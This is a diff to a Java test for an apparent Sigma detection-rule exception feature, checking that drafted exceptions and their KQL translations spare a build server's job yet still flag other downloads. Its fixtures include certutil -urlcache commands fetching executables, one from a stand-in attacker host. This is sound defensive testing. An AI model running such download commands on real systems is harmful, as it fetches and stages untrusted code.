@@ -110,7 +110,7 @@ public class ExceptionsAppliedEverywhereTest {
             tags: [attack.command-and-control, attack.t1105]
             """;
     /** The build server's nightly job: the event the exception is drafted from. */
-    static final Map<String, Object> BUILD = event("certutil -urlcache -f http://updates.example/a.exe a.exe",
+    public static final Map<String, Object> BUILD = event("certutil -urlcache -f http://updates.example/a.exe a.exe",
             "build-01.corp", "C:\\Tools\\deploy.exe", "CORP\\svc_build");
     /** Someone else's download: must still fire. */
     static final Map<String, Object> OTHER = event("certutil -urlcache -f http://evil.example/x.exe x.exe",
@@ -306,7 +306,8 @@ public class ExceptionsAppliedEverywhereTest {
         assertThat(form.group(1)).isEqualTo("/rules/" + RULE_ID + "/exceptions/new");
         String yaml = HtmlUtils.htmlUnescape(form.group(2));
         String title = HtmlUtils.htmlUnescape(form.group(3));
-        assertThat(yaml).contains("rules:", RULE_ID, "build-01.corp", "condition: not selection");
+        assertThat(yaml).contains("rules:", RULE_ID, "certutil -urlcache -f http://updates.example/a.exe a.exe",
+                "svc_build", "not selection");
         SignedInSession viewer = new SignedInSession(port).signedInAs(TestCredentials.username(Role.VIEWER),
                 TestCredentials.password(Role.VIEWER));
         assertThat(evaluatePage(viewer, events, false)).as("only editors may create exceptions")
@@ -407,8 +408,9 @@ public class ExceptionsAppliedEverywhereTest {
 
     /**
      * Whether the target's query selects the event, given as a row under the columns the translation names (a
-     * dynamic column such as Azure Monitor's EventData holds the Sigma field as a property), with the Sysmon routing
-     * columns Azure Monitor's table choice adds.
+     * dynamic column such as Azure Monitor's EventData holds the Sigma field as a property; a DOMAIN\\name user
+     * the target splits, Defender's AccountDomain and AccountName, is split), with the Sysmon routing columns Azure Monitor's table choice
+     * adds.
      */
     boolean selects(String target, Map<String, Object> event) {
         JsonNode translation = json(editor.get("/api/rules/" + RULE_ID + "/kql?target=" + target,
@@ -420,9 +422,17 @@ public class ExceptionsAppliedEverywhereTest {
             String field = use.get("sigmaField").asString();
             Object value = event.get(field);
             if (value != null) {
+                String text = value.toString();
+                int slash = text.indexOf('\\');
+                boolean split = slash > 0 && use.path("detail").asString("").startsWith("split-domain");
                 use.get("columns").forEach(c -> {
-                    row.put(c.asString(), value.toString());
-                    row.put(c.asString() + "." + field, value.toString());
+                    String column = c.asString();
+                    String v = split ? text.substring(slash + 1) : text;
+                    row.put(column, v);
+                    row.put(column + "." + field, v);
+                    if (split) {
+                        row.put(column.replace("Name", "Domain"), text.substring(0, slash));
+                    }
                 });
             }
         }
